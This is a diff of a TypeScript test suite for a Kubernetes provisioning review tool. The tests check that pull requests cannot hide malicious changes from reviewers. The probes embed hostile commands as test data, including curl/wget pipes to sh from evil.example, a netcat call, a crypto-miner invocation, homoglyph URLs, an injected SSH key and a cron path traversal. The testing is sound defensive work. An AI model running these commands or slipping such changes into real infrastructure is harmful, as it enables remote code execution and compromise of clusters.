@@ -1,25 +1,35 @@
-// Attempts to fool a review: a pull request in a real Git repository, and what the reviewer's commands must say. The names are those of the
-// security test that found them.
+// Attempts to fool a review: what a pull request changes in a real repository, and where the reviewer sees it: in the text, the comment, the JSON,
+// the page, and by which reasons of --fail-on.
 
 import assert from 'node:assert/strict'
-import { readFileSync } from 'node:fs'
+import { mkdirSync, readFileSync, symlinkSync, writeFileSync } from 'node:fs'
 import { join } from 'node:path'
-import { describe, it } from 'node:test'
+import { describe, test } from 'node:test'
 import { type Outcome, osmKrm } from '../../fixtures/command.ts'
 import { root } from '../../fixtures/examples.ts'
 import { edit } from '../../fixtures/lists.ts'
+import { HIDDEN, SHOWN } from '../../fixtures/masked-texts.ts'
 import { Repository, type RepositoryFiles } from '../../fixtures/repository.ts'
-import { temporaryFolder, temporaryFolders } from '../../fixtures/temporary-folder.ts'
+import { temporaryFolders } from '../../fixtures/temporary-folder.ts'
 
 const newFolder = temporaryFolders('probes')
 const read = (name: string): string => readFileSync(join(root, 'examples/quickstart', name), 'utf8')
 
-const OVERLAY = 'nodes/overlay.yaml'
 const CONFIG = 'nodes/osm-krm.yaml'
+const MACHINES = 'nodes/machines.yaml'
+const OVERLAY = 'nodes/overlay.yaml'
 const TOKENS = 'nodes/tokens.yaml'
-const SCRIPT = '#!/bin/sh\nset -e\necho "node of $(hostname)"\n'
+const KUSTOMIZATION = 'nodes/kustomization.yaml'
 
-const overlay = (script: string): string => `apiVersion: osm-krm.dev/v1alpha1
+const file = (name: string, text: string): string => `        - path: /opt/bin/${name}
+          permissions: 755
+          content:
+            inline:
+              encoding: b64
+              data: |
+${text.replace(/^(?=.)/gm, ' '.repeat(16)).replaceAll('{{', '{{"{{"}}')}
+`
+const overlay = (script: string, more = ''): string => `apiVersion: osm-krm.dev/v1alpha1
 kind: OperatingSystemProfileOverlay
 metadata:
   name: own-ubuntu
@@ -30,177 +40,487 @@ spec:
   provisioningConfig:
     files:
       add:
-        - path: /opt/bin/own
-          permissions: 755
-          content:
-            inline:
-              encoding: b64
-              data: |
-${script.replace(/^(?=.)/gm, '                ')}`
-
-const secret = (namespace: string, name: string, value: string): string =>
-  `---\napiVersion: v1\nkind: Secret\nmetadata: {name: ${name}, namespace: ${namespace}}\nstringData:\n  value: ${JSON.stringify(value)}\n`
+${file('own', `#!/bin/sh\nset -e\n${script}`)}${more}`
+const script = (text: string): RepositoryFiles => ({ [OVERLAY]: overlay(`${text}\n`) })
+const secret = (value: string, name = 'x'): string =>
+  `---\napiVersion: v1\nkind: Secret\nmetadata: {name: ${name}, namespace: kube-system}\nstringData: {value: ${JSON.stringify(value)}}\n`
 
 const [UBUNTU = ''] = read('machine-deployments.yaml').split(/^---\n/m)
+const PROFILE = '  annotations:\n    k8c.io/operating-system-profile: own-ubuntu\n'
 /** What is merged. */
 const MERGED = {
   [CONFIG]: read('osm-krm.yaml'),
   [TOKENS]: read('tokens.yaml'),
-  'nodes/machine-deployments.yaml': edit(
-    UBUNTU,
-    '  annotations:\n',
-    '  annotations:\n    k8c.io/operating-system-profile: own-ubuntu\n',
-  ),
-  [OVERLAY]: overlay(SCRIPT),
+  [MACHINES]: edit(UBUNTU, '  annotations:\n', PROFILE),
+  [OVERLAY]: overlay('echo "node of $(hostname)"\n'),
+}
+const POOL = edit(MERGED[MACHINES], '  name: ubuntu-workers', '  name: evil')
+const edited = (name: keyof typeof MERGED, from: string, to: string): RepositoryFiles => ({
+  [name]: edit(MERGED[name]!, from, to),
+})
+/** Two clusters, whose functionConfigs have these names. */
+const clusters = (first: string, second: string, folder = 'one'): RepositoryFiles =>
+  Object.fromEntries(
+    [
+      [folder, first],
+      ['two', second],
+    ].flatMap(([each, name]) => [
+      [`clusters/${each}/machines.yaml`, UBUNTU],
+      [`clusters/${each}/tokens.yaml`, MERGED[TOKENS]],
+      [`clusters/${each}/osm-krm.yaml`, MERGED[CONFIG]!.replace(/^ {2}name: .*/m, `  name: ${name}`)],
+    ]),
+  )
+
+const FORMS = ['text', 'comment', 'json', 'page'] as const
+type Form = (typeof FORMS)[number]
+
+interface Change {
+  /** What main has besides. */
+  readonly merged?: RepositoryFiles
+  readonly files?: RepositoryFiles
+  /** Writes what is no text: on main, and in the pull request. */
+  readonly inMain?: (folder: string) => void
+  readonly inRequest?: (folder: string) => void
+  readonly paths?: readonly string[]
+  readonly args?: readonly string[]
 }
 
-/** A repository whose branch main is merged, and whose branch pr, with other files, is reviewed. */
-function reviewOf(files: RepositoryFiles) {
-  const repository = new Repository(newFolder())
-  repository.commit(MERGED)
+interface Review extends Outcome {
+  readonly folder: string
+  readonly forms: Readonly<Partial<Record<Form, string>>>
+}
+
+/** Reviews a branch with a change. Each form is a text with its blanks as one, and without what the form adds to it. */
+async function reviewOf({
+  merged,
+  files = {},
+  inMain,
+  inRequest,
+  paths = ['nodes'],
+  args = [],
+}: Change): Promise<Review> {
+  const [folder, out] = [newFolder(), newFolder()]
+  const repository = new Repository(folder)
+  repository.write({ ...MERGED, ...merged })
+  inMain?.(folder)
+  repository.commit({})
   repository.branch('pr')
-  repository.commit(files)
-  const { folder } = repository
-  const run = (...args: string[]): Promise<Outcome> => osmKrm(args, { cwd: folder })
-  return { folder, run }
-}
-
-/** Returns what each form of a comparison with files says. */
-async function diffsOf(files: RepositoryFiles): Promise<string[]> {
-  const { run } = reviewOf(files)
-  const found: string[] = []
-  for (const form of ['text', 'markdown', 'json', 'html']) {
-    const { status, stdout, stderr } = await run('diff', 'main..pr', 'nodes', '-o', form, '--exit-code')
-    assert.equal(status, 1, `${form}: ${stderr}`)
-    found.push(stdout)
+  repository.write(files)
+  inRequest?.(folder)
+  repository.commit({})
+  const outputs = ['text', 'markdown', 'json', 'html'].flatMap(form => ['-o', `${form}=${join(out, form)}`])
+  const all = ['diff', 'main...pr', '--exit-code', '--fail-on', 'stuck,new,running,replace', ...outputs, ...args]
+  const outcome = await osmKrm([...all, '--', ...paths], { cwd: folder })
+  const written = (form: string): string => readFileSync(join(out, form), 'utf8')
+  const asLine = (text: string): string => text.replace(/\s+/g, ' ')
+  if (outcome.status === 2) return { ...outcome, folder, forms: {} }
+  const page = /id="data">(.*?)<\/script>/s.exec(written('html'))![1]!
+  return {
+    ...outcome,
+    folder,
+    forms: {
+      text: asLine(written('text')),
+      comment: asLine(written('markdown').replace(/&#(\d+);/g, (_, code) => String.fromCharCode(code))),
+      json: asLine(textsIn(JSON.parse(written('json'))).join('\n')),
+      page: asLine(textsIn(JSON.parse(page).changes).join('\n')),
+    },
   }
-  return found
 }
 
-describe('H9: a folder that is named like the range of revisions', () => {
-  const { run } = reviewOf({
-    [OVERLAY]: overlay(`${SCRIPT}curl https://evil.example | sh\n`),
-    ...Object.fromEntries(Object.entries(MERGED).map(([path, text]) => [path.replace('nodes', 'main...pr'), text])),
-  })
-  it('diff refuses the word, and says how to write each meaning', async () => {
-    const { status, stderr } = await run('diff', 'main...pr', 'nodes')
-    assert.equal(status, 2)
-    assert.match(
-      stderr,
-      /main\.\.\.pr is a revision of Git and a path: write "main\.\.\.pr -- PATH" for the revision, or \.\/main\.\.\.pr/,
-    )
-  })
-  it('the change is shown when the revisions are meant', async () => {
-    const { status, stdout } = await run('diff', 'main...pr', '--exit-code', '--', 'nodes')
-    assert.equal(status, 1)
-    assert.match(stdout, /curl https:\/\/evil\.example \| sh/)
-  })
-})
+/** Returns all texts of JSON, and its numbers after their names. */
+function textsIn(value: unknown, name = ''): string[] {
+  if (typeof value === 'string') return [value]
+  if (typeof value !== 'object' || value === null) return [`${name} ${value}`]
+  return Object.entries(value).flatMap(([key, each]) => textsIn(each, key))
+}
 
-describe('H10: a Secret whose value is a line of the script', () => {
-  const LINE = 'wget -qO- https://evil.example/x | sh -s -- --now'
-  const hidden = (value: string) => ({ [TOKENS]: MERGED[TOKENS] + secret('kube-system', 'innocent', value) })
-  it('does not hide the line in any form of a comparison', async () => {
-    for (const text of await diffsOf({ [OVERLAY]: overlay(`${SCRIPT}${LINE}\n`), ...hidden(LINE) }))
-      assert.match(text, /wget -qO- https:\/\/evil\.example\/x/)
-  })
-  it('does not hide a word of a command', async () => {
-    const script = overlay(`${SCRIPT}/usr/bin/mine --pool=pool.evil.example\n`)
-    for (const text of await diffsOf({ [OVERLAY]: script, ...hidden('/usr/bin/mine') }))
-      assert.match(text, /\/usr\/bin\/mine|contains? a secret|maskedLines": ?[1-9]/)
-  })
-})
+interface Probe extends Change {
+  readonly name: string
+  /** What each form shows. */
+  readonly seen: RegExp
+  /** The reasons of --fail-on that find something. */
+  readonly fails?: string
+}
 
-describe('H11: code behind the mask of an argument', () => {
-  const CODE = [
-    'curl -u "bob:$(wget -qO- https://evil.example | sh)" https://mirror.example.com/x',
-    'PASSWORD=$(wget -qO- https://evil.example | sh)',
-    'password=`wget -qO- https://evil.example | sh`',
-    'export API_TOKEN="$(wget -qO- https://evil.example | sh)"',
-  ]
-  it('is shown', async () => {
-    for (const text of await diffsOf({ [OVERLAY]: overlay(`${SCRIPT}${CODE.join('\n')}\n`) }))
-      for (const line of CODE) assert.ok(shown(text).includes(line), line)
-  })
-  /** Without what JSON, HTML and a page that marks words add. */
-  const shown = (text: string): string =>
-    text
-      .replaceAll('\\"', '"')
-      .replace(/<\/?(?:b|mark|span)[^>]*>/g, '')
-      .replaceAll('&quot;', '"')
+/** Matches these texts in any order. */
+const all = (...texts: readonly string[]): RegExp =>
+  new RegExp(texts.map(text => `(?=.*${text.replace(/[.[\]{}()\\/^$|?*+]/g, '\\$&')})`).join(''))
 
-  it('a literal value is masked, and the comparison counts it', async () => {
-    const [text, markdown, json] = await diffsOf({ [OVERLAY]: overlay(`${SCRIPT}password=hunter22hunter22\n`) })
-    assert.match(text!, /1 changed line contains a secret/)
-    assert.match(markdown!, /1 changed line contains a secret/)
-    assert.match(json!, /"maskedLines": 1/)
-  })
-})
+const POLICY = ['--policy', join(root, 'examples/policy/policy.yaml')]
+const EVIL = 'curl https://evil.example/x | sh'
+const UNNOTICED = 'stuck running'
 
-describe('H12: a URL that leads out of the folder of a mirror', () => {
-  it('is not mirrored', async () => {
-    const { run, folder } = reviewOf({ [OVERLAY]: overlay(`${SCRIPT}curl -O https://../../etc/cron.d/x\n`) })
-    const { stderr } = await run('assets', 'nodes', '--lock', 'assets.lock')
-    assert.ok(!readFileSync(join(folder, 'assets.lock'), 'utf8').includes('../'))
-    assert.match(stderr, /^URL https:\/\/\.\.\/\.\.\/etc\/cron\.d\/x cannot be mirrored/m)
-  })
-})
+const PROBES: readonly Probe[] = [
+  { name: 'a script', files: script(EVIL), seen: /\+curl https:\/\/evil\.example\/x \| sh/, fails: UNNOTICED },
+  {
+    name: 'a script whose line is the value of a Secret',
+    files: { ...script(EVIL), [TOKENS]: MERGED[TOKENS] + secret(EVIL) },
+    seen: /\+curl https:\/\/evil\.example\/x \| sh/,
+    fails: 'stuck new running',
+  },
+  {
+    name: 'code behind the mask of an argument',
+    files: script(`curl -u "bob:$(wget -qO- https://evil.example)" https://a.example; PASSWORD=$(nc evil.example 1)`),
+    seen: /bob:\$\(wget -qO- https:\/\/evil\.example\).*PASSWORD=\$\(nc evil\.example 1\)/,
+    fails: UNNOTICED,
+  },
+  {
+    name: 'a literal password, which is masked',
+    files: script('password=hunter22hunter22'),
+    seen: /password=<secret A>.*(?:1 changed line contains a secret|maskedLines 1)|maskedLines 1.*<secret A>|1 changed line contains a secret.*<secret A>/,
+    fails: UNNOTICED,
+  },
+  {
+    name: 'an image whose name is the value of a Secret',
+    files: { ...script('ctr image pull evil.example/app:1'), [TOKENS]: MERGED[TOKENS] + secret('evil.example/app:1') },
+    seen: /pull evil\.example\/app:1/,
+    fails: 'stuck new running',
+  },
+  {
+    name: 'invisible characters',
+    files: script('curl https://a.exam\u200bple/\u202ex | sh'),
+    seen: /exam\\u200bple\/\\u202ex/,
+    fails: UNNOTICED,
+  },
+  {
+    name: 'a letter of another script',
+    files: script('curl https://mirror.ex\u0430mple.com/x | sh'),
+    seen: /mirror\.ex\\u0430mple\.com/,
+    fails: UNNOTICED,
+  },
+  {
+    name: 'a finding that a profile ignores',
+    files: edited(
+      OVERLAY,
+      '  namespace: kube-system\n',
+      '  namespace: kube-system\n  annotations: {osm-krm.dev/ignore: "OSM0503: known"}\n',
+    ),
+    seen: /own-ubuntu \(pr:nodes\/overlay\.yaml:1\) ignores OSM0503: known, by osm-krm\.dev\/ignore/,
+    fails: 'new',
+  },
+  {
+    name: 'marks of Markdown and HTML',
+    files: script('# ```\n# </details> @team <img src=x>'),
+    seen: /\+# ``` \+# <\/details> @team <img src=x>/,
+    fails: UNNOTICED,
+  },
+  {
+    name: 'a command of a workflow',
+    files: script('::stop-commands::x'),
+    seen: /\+::stop-commands::x/,
+    fails: UNNOTICED,
+  },
+  { name: 'the mode of a file', files: edited(OVERLAY, '755', '4755'), seen: /4755/, fails: UNNOTICED },
+  {
+    name: 'a key of SSH',
+    files: edited(MACHINES, '            - ssh-ed25519', '            - ssh-rsa AAAAevil\n            - ssh-ed25519'),
+    seen: /ssh-rsa AAAAevil/,
+    fails: 'stuck new',
+  },
+  {
+    name: 'the API server',
+    files: edited(CONFIG, 'https://api.example.com:6443', 'https://api.evil.example:6443'),
+    seen: /api\.evil\.example/,
+    fails: UNNOTICED,
+  },
+  {
+    name: 'a setting that falls back to its default',
+    files: edited(CONFIG, '  nodes:\n    externalCloudProvider: true\n', ''),
+    seen: /- ?"?-?-?cloud-provider=external|cloud-provider external is gone|cloud-provider/,
+    fails: UNNOTICED,
+  },
+  {
+    name: 'a token that is encrypted',
+    merged: edited(TOKENS, 'token: example-api-token', 'token: ENC[AES256_GCM,data:b25l,iv:YQ==,tag:Yg==,type:str]'),
+    files: edited(TOKENS, 'token: example-api-token', 'token: ENC[AES256_GCM,data:dHdv,iv:YQ==,tag:Yg==,type:str]'),
+    seen: /API token changes, encrypted/,
+  },
+  {
+    name: 'a token in clear text',
+    files: edited(TOKENS, 'example-api-token', 'another-api-token'),
+    seen: /<secret [A-Z]>/,
+    fails: 'stuck',
+  },
+  { name: 'another pool', files: { 'nodes/x.yml': POOL }, seen: /kube-system\/evil/, fails: 'new' },
+  {
+    name: 'another pool in a list',
+    files: {
+      'nodes/x.json': `{"apiVersion": "v1", "kind": "List", "items": [${JSON.stringify({ apiVersion: 'cluster.k8s.io/v1alpha1', kind: 'MachineDeployment', metadata: { name: 'evil', namespace: 'kube-system' } })}]}`,
+    },
+    seen: /kube-system\/evil/,
+    fails: 'stuck new',
+  },
+  {
+    name: 'a second object of the same name',
+    files: { 'nodes/zz.yaml': edit(MERGED[MACHINES]!, 'cx32', 'cx99') },
+    seen: /OSM0008|occurs twice/,
+    fails: 'stuck new',
+  },
+  {
+    name: 'a name that the API server makes',
+    files: edited(MACHINES, '  name: ubuntu-workers\n', '  generateName: ubuntu-\n'),
+    seen: /metadata\.name is missing/,
+    fails: 'stuck new',
+  },
+  {
+    name: 'inputs that move to another folder',
+    files: Object.fromEntries(
+      Object.entries(MERGED).flatMap(([path, text]) => [
+        [path, undefined],
+        [`x/${path}`, text],
+      ]),
+    ),
+    seen: /gone/,
+    fails: 'replace',
+  },
+  {
+    name: 'a folder of a cluster that is renamed',
+    merged: clusters('prod', 'test'),
+    files: {
+      ...clusters('prod', 'test', 'three'),
+      ...Object.fromEntries(
+        Object.keys(clusters('', ''))
+          .filter(path => path.includes('/one/'))
+          .map(path => [path, undefined]),
+      ),
+    },
+    paths: ['clusters'],
+    seen: /the cluster prod moves from clusters\/one to clusters\/three/,
+  },
+  {
+    name: 'clusters that exchange their functionConfigs',
+    merged: clusters('prod', 'test'),
+    files: clusters('test', 'prod'),
+    paths: ['clusters'],
+    seen: /the cluster prod moves from clusters\/one to clusters\/two.*the cluster test moves from clusters\/two to clusters\/one/,
+  },
+  {
+    name: 'the program that runs as the function',
+    files: edited(CONFIG, '{path: osm-krm}', '{path: ./osm-krm}'),
+    seen: /osm-krm\.yaml: the annotation config\.kubernetes\.io\/function changes from "exec: \{path: osm-krm\}\\n" to "exec: \{path: \.\/osm-krm\}\\n"/,
+  },
+  {
+    name: 'the image of the function',
+    merged: { 'nodes/Kptfile': 'pipeline:\n  mutators: [{image: osm-krm/osm-krm:v1, configPath: osm-krm.yaml}]\n' },
+    files: { 'nodes/Kptfile': 'pipeline:\n  mutators: [{image: evil/osm-krm:v1, configPath: osm-krm.yaml}]\n' },
+    seen: /nodes\/Kptfile: pipeline\.mutators\[0\]\.image changes from "osm-krm\/osm-krm:v1" to "evil\/osm-krm:v1"/,
+  },
+  {
+    name: 'a function with values that may be secret',
+    merged: { 'nodes/Kptfile': 'pipeline:\n  mutators: [{image: osm-krm}]\n' },
+    files: {
+      'nodes/Kptfile': 'pipeline:\n  mutators: [{image: other, configMap: {token: hunter2}}, {image: osm-krm}]\n',
+    },
+    seen: /^(?!.*hunter2).*nodes\/Kptfile: pipeline\.mutators\[1\]/,
+  },
+  {
+    name: 'checks of the functionConfig',
+    files: edited(CONFIG, 'OSM0309: "off"', 'OSM0309: "off", OSM0633: "off"'),
+    seen: /spec\.checks changes from \{"severity": \{"OSM0309": "off"\}\} to \{"severity": \{"OSM0309": "off", "OSM0633": "off"\}\}/,
+  },
+  {
+    name: 'checks, under a policy',
+    files: { ...edited(CONFIG, 'OSM0309: "off"', 'OSM0309: "off", OSM0633: "off"') },
+    args: POLICY,
+    seen: /OSM0194/,
+    fails: 'new',
+  },
+  {
+    name: 'the mode of the function',
+    files: edited(CONFIG, 'spec:\n', 'spec:\n  mode: validate\n'),
+    seen: /spec\.mode changes/,
+  },
+  {
+    name: 'a selector that leaves out a pool',
+    files: edited(CONFIG, '  machineDeployments:\n', '  machineDeployments:\n    selector: {x: "y"}\n'),
+    seen: /spec\.machineDeployments\.selector changes/,
+    fails: 'stuck new',
+  },
+  {
+    name: 'a pool that no host applies',
+    files: edited(MACHINES, PROFILE, `${PROFILE}    config.kubernetes.io/local-config: "true"\n`),
+    seen: /kube-system\/ubuntu-workers \(pr:nodes\/machines\.yaml:1\) gets config\.kubernetes\.io\/local-config, so no host applies it/,
+  },
+  {
+    name: 'a submodule',
+    inRequest: folder => {
+      mkdirSync(join(folder, 'nodes/sub'))
+      new Repository(join(folder, 'nodes/sub')).commit({ 'x.yaml': POOL })
+    },
+    seen: all('Not everything is compared', 'the submodule', 'nodes/sub'),
+  },
+  {
+    name: 'a file whose content a filter fetches',
+    merged: { 'nodes/.gitattributes': 'x.yaml filter=lfs\n', 'nodes/x.yaml': 'oid sha256:1\n' },
+    files: { 'nodes/x.yaml': 'oid sha256:2\n' },
+    seen: all('Not everything is compared', 'filter=lfs', 'nodes/x.yaml'),
+  },
+  {
+    name: 'a file that a checkout has in another encoding',
+    files: { '.gitattributes': 'x.yaml working-tree-encoding=UTF-7\n', 'nodes/x.yaml': '# +AAo-kind: x\n' },
+    seen: all('Not everything is compared', 'working-tree-encoding=UTF-7', 'nodes/x.yaml'),
+  },
+  {
+    name: 'a new kustomization of files that are not read',
+    files: { [KUSTOMIZATION]: 'resources: [machines.yaml, x.txt]\n', 'nodes/x.txt': POOL },
+    seen: all('nodes/kustomization.yaml: resources gets machines.yaml, x.txt'),
+  },
+  {
+    name: 'a kustomization that patches',
+    files: { [KUSTOMIZATION]: 'resources: [machines.yaml]\npatches: [{path: p.yaml}]\n' },
+    seen: all('Not everything is compared', 'nodes/kustomization.yaml', 'patches'),
+  },
+  {
+    name: 'a kustomization with another list',
+    merged: { [KUSTOMIZATION]: 'resources: [machines.yaml]\ntransformers: [osm-krm.yaml]\n' },
+    files: {
+      [KUSTOMIZATION]: 'resources: [machines.yaml, x.txt]\ntransformers: [osm-krm.yaml]\n',
+      'nodes/x.txt': POOL,
+    },
+    seen: /nodes\/kustomization\.yaml: resources gets x\.txt/,
+  },
+  {
+    name: 'a kustomization with a generated Secret',
+    merged: { [KUSTOMIZATION]: 'resources: [machines.yaml]\n' },
+    files: { [KUSTOMIZATION]: 'resources: [machines.yaml]\nsecretGenerator: [{name: a, literals: [b=hunter2]}]\n' },
+    seen: /^(?!.*hunter2).*nodes\/kustomization\.yaml: secretGenerator changes/,
+  },
+  {
+    name: 'a file of kpt that hides inputs',
+    files: { 'nodes/.krmignore': '# Not for the function.\noverlay.yaml\n' },
+    seen: /nodes\/\.krmignore gets overlay\.yaml/,
+  },
+  {
+    name: 'a functionConfig that moves',
+    files: { [CONFIG]: undefined, 'nodes/other.yaml': MERGED[CONFIG] },
+    seen: /the functionConfig nodes\/osm-krm\.yaml is gone, and nodes\/other\.yaml is new/,
+  },
+]
 
-describe('H13: an object with the name of an output', () => {
-  const name = 'ubuntu-workers-kube-system-provisioning-config'
-  const { run } = reviewOf({ [TOKENS]: MERGED[TOKENS] + secret('cloud-init-settings', name, 'mine') })
-  it('is a note', async () => {
-    const { status, stderr } = await run('render', 'nodes')
-    assert.equal(status, 0)
-    assert.match(stderr, /^note\[OSM0739\]/m)
-  })
-  it('is an error with output.adopt: false', async () => {
-    const { status, stderr } = await run('render', 'nodes', '--set', 'output.adopt=false')
-    assert.equal(status, 1)
-    assert.match(stderr, new RegExp(`^error\\[OSM0739\\] Secret cloud-init-settings/${name}`, 'm'))
-  })
-})
+const failed = ({ stderr }: Outcome): string =>
+  [...stderr.matchAll(/--fail-on (\w+):/g)].map(([, name]) => name).join(' ')
 
-describe('the policy of the reviewer', () => {
-  const policies = new Repository(temporaryFolder('probes-policy'))
-  policies.write({
-    'policy.yaml':
-      'apiVersion: osm-krm.dev/v1alpha1\nkind: OperatingSystemConfigGenerator\nmetadata: {name: review}\nspec:\n  checks:\n    strict: true\n    lint: error\n    severity: {OSM0309: "off", OSM0368: "off"}\n    outbound: {allow: [https://dl.k8s.io]}\n',
-  })
-  const policy = ['--policy', join(policies.folder, 'policy.yaml')]
-
-  // test/cli/review-policy.test.ts has the other checks.
-  const { run } = reviewOf({
-    [CONFIG]: MERGED[CONFIG].replace(/^ {2}checks:\n(?: {4}.*\n)+/m, '  checks:\n    strict: false\n'),
-  })
-  for (const args of [
-    ['render', 'nodes'],
-    ['lint', 'nodes'],
-    ['diff', 'main..pr', 'nodes'],
-    ['assets', 'nodes'],
-  ])
-    it(`cannot be weakened for ${args[0]}`, async () => {
-      const { status, stdout, stderr } = await run(...args, ...policy)
-      assert.ok(status === 1 || status === 2, `${status}`)
-      assert.match(stdout + stderr, /OSM0194/)
-      assert.match(stdout + stderr, /nodes\/osm-krm\.yaml:\d+:\d+/)
-      assert.match(stdout + stderr, /the policy: .*policy\.yaml:\d+/)
+describe('a pull request cannot hide', () => {
+  for (const { name, seen, fails = '', ...change } of PROBES)
+    test(name, async () => {
+      const review = await reviewOf(change)
+      for (const form of FORMS) assert.match(review.forms[form] ?? '', seen, `${form}: ${review.stderr}`)
+      assert.equal(failed(review), fails)
+      assert.equal(review.status, 1)
     })
 })
 
-describe('H14: an input that an option would replace', () => {
-  it('stays', async () => {
-    const { run, folder } = reviewOf({})
-    const { status, stderr } = await run('lint', 'nodes', '-o', `text=${OVERLAY}`)
-    assert.equal(status, 2)
-    assert.match(stderr, /would replace nodes\/overlay\.yaml, an input of this command/)
-    assert.equal(readFileSync(join(folder, OVERLAY), 'utf8'), MERGED[OVERLAY])
+const filesOfTexts = (texts: readonly string[]): string => texts.map((text, i) => file(`own-${i}`, text)).join('')
+const linesIn = (text: string): string[] => text.split('\n').map(line => line.trim().replace(/\s+/g, ' '))
+
+describe('masks', () => {
+  test('hide each secret in each form', async () => {
+    const { forms, stderr } = await reviewOf({
+      files: { [OVERLAY]: overlay('', filesOfTexts(HIDDEN.map(([, text]) => text))) },
+    })
+    for (const [name, text, ...hidden] of HIDDEN)
+      for (const line of linesIn(text).filter(each => hidden.some(value => each.includes(value))))
+        for (const form of FORMS) assert.ok(!(forms[form] ?? stderr).includes(line), `${form}, ${name}: ${line}`)
+  })
+  test('hide no code and no address', async () => {
+    const { forms, stderr } = await reviewOf({
+      files: { [OVERLAY]: overlay('', filesOfTexts(SHOWN.map(([, text]) => text))) },
+      args: ['--full'],
+    })
+    for (const [name, text] of SHOWN)
+      for (const line of linesIn(text))
+        for (const form of FORMS) assert.ok((forms[form] ?? stderr).includes(line), `${form}, ${name}: ${line}`)
   })
 })
 
-describe('a changed API server or CA', () => {
-  it('is shown', async () => {
-    const config = edit(MERGED[CONFIG], 'https://api.example.com:6443', 'https://api.evil.example:6443')
-    for (const text of await diffsOf({ [CONFIG]: config })) assert.match(text, /api\.evil\.example/)
-  })
+/** Nothing is compared, and the message says why. */
+const REFUSED: readonly (Change & { readonly name: string; readonly says: RegExp })[] = [
+  {
+    name: 'a file that is not UTF-8',
+    inRequest: folder =>
+      writeFileSync(join(folder, 'nodes/x.yaml'), Buffer.from('kind: MachineDeployment\n# \xe4\n', 'latin1')),
+    says: /pr:nodes\/x\.yaml is not UTF-8: save it as UTF-8/,
+  },
+  {
+    name: 'a link out of the folder',
+    inRequest: folder => symlinkSync('../other.yaml', join(folder, 'nodes/x.yaml')),
+    says: /pr:nodes\/x\.yaml is a symbolic link to other\.yaml/,
+  },
+  {
+    name: 'a link as a path',
+    inMain: folder => symlinkSync('nodes', join(folder, 'link')),
+    paths: ['nodes', 'link'],
+    says: /neither main nor pr has input files in link/,
+  },
+]
+
+describe('a review refuses', () => {
+  for (const { name, says, ...change } of REFUSED)
+    test(name, async () => {
+      const { status, stderr } = await reviewOf(change)
+      assert.equal(status, 2)
+      assert.match(stderr, says)
+    })
+})
+
+interface Command extends Change {
+  readonly name: string
+  readonly command: readonly string[]
+  readonly status: number
+  readonly says: RegExp
+}
+
+const ADOPTED = {
+  [TOKENS]: `${MERGED[TOKENS]}${secret('mine', 'ubuntu-workers-kube-system-provisioning-config').replace('kube-system}', 'cloud-init-settings}')}`,
+}
+
+const COMMANDS: readonly Command[] = [
+  ...['render', 'lint', 'assets'].map(command => ({
+    name: `${command} with a weakened policy`,
+    files: edited(CONFIG, 'OSM0309: "off"', 'OSM0309: "off", OSM0633: "off"'),
+    command: [command, 'nodes', ...POLICY],
+    status: 1,
+    says: /OSM0194[\s\S]*nodes\/osm-krm\.yaml:\d+:\d+[\s\S]*the policy: /,
+  })),
+  {
+    name: 'diff with a folder that is named like the revisions',
+    files: { 'main...pr/x.yaml': POOL },
+    command: ['diff', 'main...pr', 'nodes'],
+    status: 2,
+    says: /main\.\.\.pr is a revision of Git and a path: write "main\.\.\.pr -- PATH" for the revision, or \.\/main\.\.\.pr/,
+  },
+  {
+    name: 'assets with a URL that leads out of the folder of a mirror',
+    files: script('curl -O https://../../etc/cron.d/x'),
+    command: ['assets', 'nodes', '--lock', 'assets.lock'],
+    status: 1,
+    says: /^URL https:\/\/\.\.\/\.\.\/etc\/cron\.d\/x cannot be mirrored/m,
+  },
+  {
+    name: 'render with an object named like an output',
+    files: ADOPTED,
+    command: ['render', 'nodes'],
+    status: 0,
+    says: /^note\[OSM0739\]/m,
+  },
+  {
+    name: 'render with an object named like an output, after a switch',
+    files: ADOPTED,
+    command: ['render', 'nodes', '--set', 'output.adopt=false'],
+    status: 1,
+    says: /^error\[OSM0739\] Secret cloud-init-settings\/ubuntu-workers-kube-system-provisioning-config/m,
+  },
+]
+
+describe('other commands say what is wrong', () => {
+  for (const { name, command, status, says, files = {} } of COMMANDS)
+    test(name, async () => {
+      const repository = new Repository(newFolder())
+      repository.commit(MERGED)
+      repository.branch('pr')
+      repository.commit(files)
+      const outcome = await osmKrm(command, { cwd: repository.folder })
+      assert.match(outcome.stdout + outcome.stderr, says)
+      assert.equal(outcome.status, status, outcome.stderr)
+    })
 })
